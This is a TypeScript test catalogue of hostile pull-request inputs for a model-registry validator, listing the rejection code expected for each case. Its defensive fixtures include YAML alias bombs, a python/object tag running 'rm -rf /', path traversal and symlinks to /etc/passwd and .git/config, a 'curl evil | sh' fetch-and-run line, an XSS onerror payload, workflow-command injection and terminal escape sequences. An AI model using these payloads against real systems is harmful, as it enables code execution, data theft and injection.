/**
 * The hostile-input catalogue (issue 8): each case is a change to the fixture registry that a stranger
 * could put in a pull request, and the finding it must be rejected with — code, file, and line where
 * the problem has one. test/integration/hostile-catalogue.test.ts runs every case through `modelreg
 * validate` on a real repository; the bundled action's hostile cases are in action-hostile.test.ts.
 *
 * Files are given as text, or as a symlink or a submodule (gitlink) entry. `expect` lists findings that
 * must all be present (others may be too); `line: 0` means "the finding has no line" (tree findings).
 */

/** A file's text or bytes, a symlink to `symlink` ('@CANARY@': the canary file outside), or a submodule (what it is, for the reader). */
export type Entry = string | Buffer | { symlink: string } | { submodule: string };

export interface HostileCase {
  id: string;
  group: 'yaml' | 'names' | 'values' | 'tree' | 'output';
  what: string;
  files: Record<string, Entry>;
  /** Paths of the fixture to delete first. */
  remove?: string[];
  /** 'warning': reported, but not a reason to refuse the change (a stray file beside the manifests). Default 'error'. */
  verdict?: 'error' | 'warning';
  expect: { code: string; file: string; line?: number }[];
}

/** The text the symlink cases point at outside the repository; it must never appear in any output. */
export const CANARY = 'CANARY-7f3c9e1a-outside-the-registry';

const MODEL = 'models/bert-base/model.yaml';
const V1 = 'models/bert-base/versions/1.0.0.yaml';
const NEW = 'models/bert-base/versions/1.1.0.yaml';
const STAGE = 'models/bert-base/stages/staging.yaml';

const modelYaml = (extra = '') => `name: bert-base\nowners: [research-team]\n${extra}`;
/** A new version of bert-base; `extra` lands from line 7 on. */
const versionYaml = (over: Partial<Record<'version' | 'artifacts' | 'metrics' | 'created_at', string>> = {}, extra = '') =>
  [
    'name: bert-base',
    `version: ${over.version ?? '1.1.0'}`,
    `artifacts: ${over.artifacts ?? `[{ path: model.bin, sha256: ${'a'.repeat(64)}, size: 10 }]`}`,
    `metrics: ${over.metrics ?? '{ mlm_loss: 1.1 }'}`,
    'created_by: mallory@example.com',
    `created_at: ${JSON.stringify(over.created_at ?? '2026-11-01T10:00:00Z')}`,
  ].join('\n') + `\n${extra}`;
const stageYaml = (version: string, stage = 'staging') =>
  `model: bert-base\nstage: ${stage}\nversion: ${version}\nmoved_by: mallory\nmoved_at: "2026-11-01T10:00:00Z"\nprevious: null\n`;

const laughs = [
  'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  ...Array.from(
    { length: 8 },
    (_, i) =>
      `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)},*${String.fromCharCode(97 + i)}]`,
  ),
].join('\n');

export const CATALOGUE: HostileCase[] = [
  // ---- YAML ----
  {
    id: 'alias-bomb',
    group: 'yaml',
    what: 'billion laughs: nine levels of aliases',
    files: { [MODEL]: `${modelYaml()}${laughs}\n` },
    expect: [{ code: 'yaml-alias', file: MODEL, line: 3 }],
  },
  {
    id: 'alias',
    group: 'yaml',
    what: 'an anchor and an alias',
    files: { [MODEL]: 'name: &n bert-base\nowners: [*n]\n' },
    expect: [{ code: 'yaml-alias', file: MODEL, line: 1 }],
  },
  {
    id: 'merge-key',
    group: 'yaml',
    what: 'a merge key',
    files: { [MODEL]: 'base: &b { owners: [x] }\nname: bert-base\n<<: *b\n' },
    expect: [{ code: 'yaml-alias', file: MODEL, line: 1 }],
  },
  {
    id: 'deep-flow',
    group: 'yaml',
    what: '200 nested flow sequences',
    files: { [MODEL]: `name: bert-base\nowners: [x]\nx: ${'['.repeat(200)}${']'.repeat(200)}\n` },
    expect: [{ code: 'yaml-limits', file: MODEL, line: 3 }],
  },
  {
    id: 'deep-block',
    group: 'yaml',
    what: '40 nested block mappings',
    files: { [MODEL]: `name: bert-base\nowners: [x]\n${Array.from({ length: 40 }, (_, i) => `${'  '.repeat(i)}k${i}:`).join('\n')} 1\n` },
    expect: [{ code: 'yaml-limits', file: MODEL }],
  },
  {
    id: 'duplicate-key',
    group: 'yaml',
    what: 'a key given twice',
    files: { [MODEL]: 'name: bert-base\nowners: [x]\nname: evil\n' },
    expect: [{ code: 'yaml-duplicate-key', file: MODEL, line: 3 }],
  },
  {
    id: 'multi-doc',
    group: 'yaml',
    what: 'a second document',
    files: { [MODEL]: `${modelYaml()}---\nname: other\n` },
    expect: [{ code: 'yaml-multiple-documents', file: MODEL, line: 3 }],
  },
  {
    id: 'complex-key',
    group: 'yaml',
    what: 'a sequence as a key',
    files: { [MODEL]: `${modelYaml()}? [a, b]\n: 1\n` },
    expect: [{ code: 'yaml-key', file: MODEL, line: 3 }],
  },
  {
    id: 'numeric-key',
    group: 'yaml',
    what: 'a number as a key',
    files: { [MODEL]: `${modelYaml()}tags: { 1: x }\n` },
    expect: [{ code: 'yaml-key', file: MODEL, line: 3 }],
  },
  {
    id: 'yaml-1.1',
    group: 'yaml',
    what: 'a %YAML 1.1 directive',
    files: { [MODEL]: `%YAML 1.1\n---\n${modelYaml()}` },
    expect: [{ code: 'yaml-directive', file: MODEL, line: 1 }],
  },
  {
    id: 'tag-directive',
    group: 'yaml',
    what: 'a %TAG directive',
    files: { [MODEL]: `%TAG ! tag:evil.example,2026:\n---\n${modelYaml()}` },
    expect: [{ code: 'yaml-directive', file: MODEL, line: 1 }],
  },
  {
    id: 'yaml-1.1-bool',
    group: 'yaml',
    what: 'deprecated: yes (a YAML 1.1 boolean is a string in 1.2)',
    files: { [V1]: versionYaml({ version: '1.0.0' }, 'deprecated: yes\n') },
    expect: [{ code: 'schema', file: V1, line: 7 }],
  },
  {
    id: 'yaml-1.1-sexagesimal',
    group: 'yaml',
    what: 'size: 1:30 (a 1.1 base-60 number is a string in 1.2)',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: model.bin, sha256: ${'a'.repeat(64)}, size: 1:30 }]` }) },
    expect: [{ code: 'schema', file: NEW, line: 3 }],
  },
  {
    id: 'python-tag',
    group: 'yaml',
    what: 'a !!python/object tag',
    files: { [MODEL]: `${modelYaml()}x: !!python/object:os.system [rm -rf /]\n` },
    expect: [{ code: 'yaml-tag', file: MODEL, line: 3 }],
  },
  {
    id: 'custom-tag',
    group: 'yaml',
    what: 'a local !tag',
    files: { [MODEL]: `${modelYaml()}x: !evil 1\n` },
    expect: [{ code: 'yaml-tag', file: MODEL, line: 3 }],
  },
  {
    id: 'binary-tag',
    group: 'yaml',
    what: 'a !!binary tag',
    files: { [MODEL]: `${modelYaml()}x: !!binary aGVsbG8=\n` },
    expect: [{ code: 'yaml-tag', file: MODEL, line: 3 }],
  },
  {
    id: 'bom',
    group: 'yaml',
    what: 'a byte-order mark, then an unknown field on line 3',
    files: { [MODEL]: `\uFEFF${modelYaml()}evil: 1\n` },
    expect: [{ code: 'schema', file: MODEL, line: 3 }],
  },
  {
    id: 'crlf',
    group: 'yaml',
    what: 'CRLF line ends, an unknown field on line 3',
    files: { [MODEL]: `${modelYaml()}evil: 1\n`.replace(/\n/g, '\r\n') },
    expect: [{ code: 'schema', file: MODEL, line: 3 }],
  },
  {
    id: 'lone-cr',
    group: 'yaml',
    what: 'a lone CR between two keys',
    files: { [MODEL]: `name: bert-base\rowners: [x]\n` },
    expect: [{ code: 'yaml-syntax', file: MODEL, line: 1 }],
  },
  {
    id: 'oversize',
    group: 'yaml',
    what: 'a 3 MB manifest',
    files: { [MODEL]: `${modelYaml()}description: "${'x'.repeat(3 * 1024 * 1024)}"\n` },
    expect: [{ code: 'tree-oversize', file: MODEL }],
  },
  { id: 'empty', group: 'yaml', what: 'an empty file', files: { [MODEL]: '' }, expect: [{ code: 'yaml-empty', file: MODEL, line: 1 }] },
  {
    id: 'comments-only',
    group: 'yaml',
    what: 'only comments',
    files: { [MODEL]: '# nothing\n# here\n' },
    expect: [{ code: 'yaml-empty', file: MODEL, line: 1 }],
  },
  {
    id: 'tab-indent',
    group: 'yaml',
    what: 'a tab as indentation',
    files: { [MODEL]: `name: bert-base\nowners:\n\t- x\n` },
    expect: [{ code: 'yaml-syntax', file: MODEL, line: 3 }],
  },
  // The parser finds the missing quote at the end of the input, and says so there.
  {
    id: 'unterminated',
    group: 'yaml',
    what: 'an unterminated quoted string',
    files: { [MODEL]: `name: "bert-base\nowners: [x]\n` },
    expect: [{ code: 'yaml-syntax', file: MODEL, line: 3 }],
  },
  {
    id: 'invalid-utf8',
    group: 'yaml',
    what: 'bytes that are not UTF-8 in a name',
    files: { [MODEL]: Buffer.concat([Buffer.from('name: bert'), Buffer.from([0xff, 0xfe]), Buffer.from('base\nowners: [x]\n')]) },
    expect: [{ code: 'schema', file: MODEL, line: 1 }],
  },
  {
    id: 'top-list',
    group: 'yaml',
    what: 'a sequence instead of a mapping',
    files: { [MODEL]: '- name: bert-base\n' },
    expect: [{ code: 'schema', file: MODEL, line: 1 }],
  },
  {
    id: 'bracket-bomb',
    group: 'yaml',
    what: '100,000 open brackets',
    files: { [MODEL]: `name: bert-base\nowners: [x]\nx: ${'['.repeat(100_000)}\n` },
    expect: [{ code: 'yaml-limits', file: MODEL, line: 3 }],
  },

  // ---- Names and paths ----
  {
    id: 'artifact-traversal',
    group: 'names',
    what: 'an artifact path climbing out with ..',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: ../../../etc/passwd, sha256: ${'a'.repeat(64)}, size: 1 }]` }) },
    expect: [{ code: 'artifact-path', file: NEW, line: 3 }],
  },
  {
    id: 'artifact-absolute',
    group: 'names',
    what: 'an absolute artifact path',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: /etc/passwd, sha256: ${'a'.repeat(64)}, size: 1 }]` }) },
    expect: [{ code: 'schema', file: NEW, line: 3 }],
  },
  {
    id: 'artifact-backslash',
    group: 'names',
    what: 'a Windows path',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: '..\\\\x.bin', sha256: ${'a'.repeat(64)}, size: 1 }]` }) },
    expect: [{ code: 'schema', file: NEW, line: 3 }],
  },
  {
    id: 'artifact-control',
    group: 'names',
    what: 'a control character in an artifact path',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: "a\\u0007b", sha256: ${'a'.repeat(64)}, size: 1 }]` }) },
    expect: [{ code: 'yaml-control', file: NEW, line: 3 }],
  },
  {
    id: 'artifact-bidi',
    group: 'names',
    what: 'a right-to-left override in an artifact path',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: "evil\\u202Etxt.exe", sha256: ${'a'.repeat(64)}, size: 1 }]` }) },
    expect: [{ code: 'yaml-control', file: NEW, line: 3 }],
  },
  {
    id: 'artifact-dup-case',
    group: 'names',
    what: 'two artifacts differing only by case',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: W.bin, sha256: ${'a'.repeat(64)}, size: 1 }, { path: w.bin, sha256: ${'b'.repeat(64)}, size: 1 }]` }) },
    expect: [{ code: 'artifact-path', file: NEW, line: 3 }],
  },
  {
    id: 'model-upper',
    group: 'names',
    what: 'an upper-case model directory',
    files: { 'models/Evil/model.yaml': 'name: Evil\nowners: [x]\n' },
    expect: [{ code: 'name-invalid', file: 'models/Evil/model.yaml' }],
  },
  {
    id: 'case-collision',
    group: 'names',
    what: 'models/bert-base and models/BERT-base',
    files: { 'models/BERT-base/model.yaml': modelYaml() },
    expect: [{ code: 'name-case-collision', file: 'models/bert-base/model.yaml' }],
  },
  {
    id: 'leading-dash',
    group: 'names',
    what: 'a model directory starting with -',
    files: { 'models/-rf/model.yaml': 'name: -rf\nowners: [x]\n' },
    expect: [{ code: 'name-invalid', file: 'models/-rf/model.yaml' }],
  },
  {
    id: 'control-name',
    group: 'names',
    what: 'a control character in a directory name',
    files: { 'models/a\u0001b/model.yaml': 'name: ab\nowners: [x]\n' },
    expect: [{ code: 'name-invalid', file: 'models/a\u0001b/model.yaml' }],
  },
  {
    id: 'bidi-name',
    group: 'names',
    what: 'a right-to-left override in a directory name',
    files: { 'models/evil\u202Etxt.exe/model.yaml': 'name: x\nowners: [x]\n' },
    expect: [{ code: 'name-invalid', file: 'models/evil\u202Etxt.exe/model.yaml' }],
  },
  {
    id: 'homoglyph',
    group: 'names',
    what: 'a Cyrillic е in bert-base',
    files: { 'models/b\u0435rt-base/model.yaml': 'name: b\u0435rt-base\nowners: [x]\n' },
    expect: [{ code: 'name-invalid', file: 'models/b\u0435rt-base/model.yaml' }],
  },
  {
    id: 'dotdot-name',
    group: 'names',
    what: 'a model named with ..',
    files: { 'models/a..b/model.yaml': 'name: a..b\nowners: [x]\n' },
    expect: [{ code: 'name-invalid', file: 'models/a..b/model.yaml' }],
  },
  {
    id: 'version-not-semver',
    group: 'names',
    what: 'versions/latest.yaml',
    files: { 'models/bert-base/versions/latest.yaml': versionYaml({ version: 'latest' }) },
    expect: [{ code: 'version-invalid', file: 'models/bert-base/versions/latest.yaml' }],
  },
  {
    id: 'version-build-meta',
    group: 'names',
    what: 'build metadata in a version',
    files: { 'models/bert-base/versions/1.1.0+evil.yaml': versionYaml({ version: '1.1.0+evil' }) },
    expect: [{ code: 'version-invalid', file: 'models/bert-base/versions/1.1.0+evil.yaml' }],
  },
  {
    id: 'stage-upper',
    group: 'names',
    what: 'stages/Production.yaml',
    files: { 'models/bert-base/stages/Production.yaml': stageYaml('1.0.0', 'Production') },
    expect: [{ code: 'name-invalid', file: 'models/bert-base/stages/Production.yaml' }],
  },
  {
    id: 'name-mismatch',
    group: 'names',
    what: 'model.yaml naming another model',
    files: { [MODEL]: 'name: sentiment\nowners: [x]\n' },
    expect: [{ code: 'name-mismatch', file: MODEL, line: 1 }],
  },
  {
    id: 'yml',
    group: 'names',
    what: 'a .yml version file',
    files: { 'models/bert-base/versions/1.1.0.yml': versionYaml() },
    expect: [{ code: 'tree-bad-extension', file: 'models/bert-base/versions/1.1.0.yml' }],
  },
  {
    id: 'stray',
    group: 'names',
    what: 'a stray script in a model',
    verdict: 'warning',
    files: { 'models/bert-base/run.sh': '#!/bin/sh\ncurl evil | sh\n' },
    expect: [{ code: 'tree-unexpected-file', file: 'models/bert-base/run.sh' }],
  },
  {
    id: 'parent-traversal',
    group: 'names',
    what: 'a lineage parent named ../x',
    files: { [NEW]: versionYaml({}, 'lineage: { parents: [{ model: ../../x, version: 1.0.0 }] }\n') },
    expect: [{ code: 'schema', file: NEW, line: 7 }],
  },
  {
    id: 'stage-unknown',
    group: 'names',
    what: 'a stage the policy does not have',
    files: { 'models/bert-base/stages/shadow.yaml': stageYaml('1.0.0', 'shadow') },
    expect: [{ code: 'stage-unknown', file: 'models/bert-base/stages/shadow.yaml', line: 2 }],
  },

  // ---- Values ----
  {
    id: 'nan',
    group: 'values',
    what: 'a NaN metric',
    files: { [NEW]: versionYaml({ metrics: '{ accuracy: .nan }' }) },
    expect: [{ code: 'yaml-number', file: NEW, line: 4 }],
  },
  {
    id: 'inf',
    group: 'values',
    what: 'an infinite metric',
    files: { [NEW]: versionYaml({ metrics: '{ accuracy: .inf }' }) },
    expect: [{ code: 'yaml-number', file: NEW, line: 4 }],
  },
  {
    id: 'neg-inf',
    group: 'values',
    what: 'a negative infinite metric',
    files: { [NEW]: versionYaml({ metrics: '{ loss: -.inf }' }) },
    expect: [{ code: 'yaml-number', file: NEW, line: 4 }],
  },
  {
    id: 'overflow',
    group: 'values',
    what: '1e999, which overflows to infinity',
    files: { [NEW]: versionYaml({ metrics: '{ accuracy: 1e999 }' }) },
    expect: [{ code: 'yaml-number', file: NEW, line: 4 }],
  },
  {
    id: 'beyond-2^53',
    group: 'values',
    what: 'a size beyond 2^53',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: model.bin, sha256: ${'a'.repeat(64)}, size: 9007199254740993 }]` }) },
    expect: [{ code: 'yaml-number', file: NEW, line: 3 }],
  },
  {
    id: 'hex-beyond',
    group: 'values',
    what: 'a hex size beyond 2^53',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: model.bin, sha256: ${'a'.repeat(64)}, size: 0x20000000000001 }]` }) },
    expect: [{ code: 'yaml-number', file: NEW, line: 3 }],
  },
  {
    id: 'metric-string',
    group: 'values',
    what: 'a metric given as a string',
    files: { [NEW]: versionYaml({ metrics: '{ accuracy: "0.99" }' }) },
    expect: [{ code: 'schema', file: NEW, line: 4 }],
  },
  {
    id: 'size-negative',
    group: 'values',
    what: 'a negative size',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: model.bin, sha256: ${'a'.repeat(64)}, size: -1 }]` }) },
    expect: [{ code: 'schema', file: NEW, line: 3 }],
  },
  {
    id: 'size-string',
    group: 'values',
    what: 'a size given as a string',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: model.bin, sha256: ${'a'.repeat(64)}, size: "10" }]` }) },
    expect: [{ code: 'schema', file: NEW, line: 3 }],
  },
  {
    id: 'sha-short',
    group: 'values',
    what: 'a short sha256',
    files: { [NEW]: versionYaml({ artifacts: '[{ path: model.bin, sha256: abc, size: 1 }]' }) },
    expect: [{ code: 'schema', file: NEW, line: 3 }],
  },
  {
    id: 'sha-upper',
    group: 'values',
    what: 'an upper-case sha256',
    files: { [NEW]: versionYaml({ artifacts: `[{ path: model.bin, sha256: ${'A'.repeat(64)}, size: 1 }]` }) },
    expect: [{ code: 'schema', file: NEW, line: 3 }],
  },
  {
    id: 'bad-date',
    group: 'values',
    what: 'a created_at that is not RFC 3339',
    files: { [NEW]: versionYaml({ created_at: 'yesterday' }) },
    expect: [{ code: 'schema', file: NEW, line: 6 }],
  },
  {
    id: 'unknown-field',
    group: 'values',
    what: 'an unknown field',
    files: { [NEW]: versionYaml({}, 'run_this: curl evil | sh\n') },
    expect: [{ code: 'schema', file: NEW, line: 7 }],
  },
  {
    id: 'proto-key',
    group: 'values',
    what: 'a __proto__ key',
    files: { [NEW]: versionYaml({}, 'params: { __proto__: { polluted: true } }\n') },
    expect: [{ code: 'yaml-key', file: NEW, line: 7 }],
  },
  {
    id: 'constructor-key',
    group: 'values',
    what: 'a constructor key',
    files: { [NEW]: versionYaml({}, 'tags: { constructor: x }\n') },
    expect: [{ code: 'yaml-key', file: NEW, line: 7 }],
  },
  {
    id: 'version-mismatch',
    group: 'values',
    what: 'a version file naming another version',
    files: { [NEW]: versionYaml({ version: '9.9.9' }) },
    expect: [{ code: 'name-mismatch', file: NEW, line: 2 }],
  },
  {
    id: 'stage-dangling',
    group: 'values',
    what: 'a stage naming a version that does not exist',
    files: { [STAGE]: stageYaml('7.0.0') },
    expect: [{ code: 'stage-dangling', file: STAGE, line: 3 }],
  },
  {
    id: 'url-token',
    group: 'values',
    what: 'a code repository URL carrying a CI job token',
    files: { [NEW]: versionYaml({}, 'lineage: { code: { repository: "https://gitlab-ci-token:glcbt-64_secret@gitlab.com/acme/train", commit: abcdef1 } }\n') },
    expect: [{ code: 'url-credentials', file: NEW, line: 7 }],
  },
  {
    id: 'url-presigned',
    group: 'values',
    what: 'a dataset URL presigned for S3',
    files: {
      [NEW]: versionYaml(
        {},
        'lineage: { datasets: [{ uri: "https://b.s3.amazonaws.com/train.parquet?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%2F20261201&X-Amz-Signature=deadbeef" }] }\n',
      ),
    },
    expect: [{ code: 'url-credentials', file: NEW, line: 7 }],
  },
  {
    id: 'url-sas',
    group: 'values',
    what: 'an Azure SAS URL in a model card field',
    files: { [MODEL]: `${modelYaml()}limitations: "see https://acct.blob.core.windows.net/c/x?sv=2024-01-01&se=2030&sig=AbC%3D"\n` },
    expect: [{ code: 'url-credentials', file: MODEL, line: 3 }],
  },
  {
    id: 'parent-twice',
    group: 'values',
    what: 'the same lineage parent named twice',
    files: {
      [NEW]: versionYaml({}, 'lineage: { parents: [{ model: bert-base, version: 1.0.0 }, { model: bert-base, version: 1.0.0, relation: fine-tuned-from }] }\n'),
    },
    expect: [{ code: 'lineage-duplicate', file: NEW, line: 7 }],
  },
  {
    id: 'huge-description',
    group: 'values',
    what: 'a 20,000-character description',
    files: { [MODEL]: `${modelYaml()}description: "${'x'.repeat(20_000)}"\n` },
    expect: [{ code: 'schema', file: MODEL, line: 3 }],
  },

  // ---- The tree ----
  {
    id: 'symlink-etc',
    group: 'tree',
    what: 'a version file that is a symlink to /etc/passwd',
    files: { [NEW]: { symlink: '/etc/passwd' } },
    expect: [{ code: 'tree-symlink', file: NEW }],
  },
  {
    id: 'symlink-outside',
    group: 'tree',
    what: 'a symlink to a secret outside the repository',
    files: { [NEW]: { symlink: '@CANARY@' } },
    expect: [{ code: 'tree-symlink', file: NEW }],
  },
  {
    id: 'symlink-git-config',
    group: 'tree',
    what: 'a symlink to .git/config',
    files: { [MODEL]: { symlink: '../../.git/config' } },
    expect: [{ code: 'tree-symlink', file: MODEL }],
  },
  {
    id: 'symlink-dir',
    group: 'tree',
    what: 'a model directory that is a symlink to /etc',
    files: { 'models/evil': { symlink: '/etc' } },
    expect: [{ code: 'tree-symlink', file: 'models/evil' }],
  },
  {
    id: 'symlink-policy',
    group: 'tree',
    what: 'registry.yaml as a symlink',
    files: { 'registry.yaml': { symlink: '@CANARY@' } },
    expect: [{ code: 'tree-symlink', file: 'registry.yaml' }],
  },
  {
    id: 'submodule',
    group: 'tree',
    what: 'a submodule as a model directory',
    files: { 'models/vendored': { submodule: 'an embedded repository' } },
    expect: [{ code: 'tree-submodule', file: 'models/vendored' }],
  },
  {
    id: 'many-files',
    group: 'tree',
    what: '3,000 stray files in one model',
    verdict: 'warning',
    files: Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`models/bert-base/junk/f${i}.txt`, 'x'])),
    expect: [
      { code: 'tree-unexpected-file', file: 'models/bert-base/junk/f0.txt' },
      { code: 'tree-unexpected-file', file: 'models/bert-base/junk/f2999.txt' },
    ],
  },
  {
    id: 'no-policy',
    group: 'tree',
    what: 'registry.yaml deleted',
    files: {},
    remove: ['registry.yaml'],
    expect: [{ code: 'tree-missing-policy', file: 'registry.yaml' }],
  },

  // ---- Output injection: the text is data; it must come out escaped, never as a command ----
  {
    id: 'workflow-command-field',
    group: 'output',
    what: 'an unknown field named like a workflow command',
    files: { [NEW]: versionYaml({}, '"::error file=x::pwned\\n::set-output name=verdict::pass": 1\n') },
    expect: [{ code: 'schema', file: NEW, line: 7 }],
  },
  {
    id: 'marker-field',
    group: 'output',
    what: "an unknown field carrying the sticky comment's marker and HTML",
    files: { [NEW]: versionYaml({}, '"<!-- modelreg:report v1 --><img src=x onerror=alert(1)>@org/admins": 1\n') },
    expect: [{ code: 'schema', file: NEW, line: 7 }],
  },
  {
    id: 'ansi-value',
    group: 'output',
    what: 'a description that writes the clipboard (OSC 52) and clears the screen',
    files: { [MODEL]: `${modelYaml()}description: "fine \\e]52;c;cHduZWQ=\\a\\e[2J"\n` },
    expect: [{ code: 'yaml-control', file: MODEL, line: 3 }],
  },
  {
    id: 'bidi-value',
    group: 'output',
    what: 'a tag value with a right-to-left override',
    files: { [NEW]: versionYaml({}, 'tags: { approved: "no\\u202Eyes" }\n') },
    expect: [{ code: 'yaml-control', file: NEW, line: 7 }],
  },
  {
    id: 'cr-value',
    group: 'output',
    what: 'a stage reason with a carriage return that overdraws the line',
    files: { [STAGE]: `${stageYaml('1.0.0')}reason: "evil\\rapproved by security"\n` },
    expect: [{ code: 'yaml-control', file: STAGE, line: 7 }],
  },
  {
    id: 'ansi-field',
    group: 'output',
    what: 'terminal escape sequences in a field name',
    files: { [NEW]: versionYaml({}, '"\\u001b]52;c;cHduZWQ=\\u0007\\u001b[2J": 1\n') },
    expect: [{ code: 'yaml-control', file: NEW, line: 7 }],
  },
];
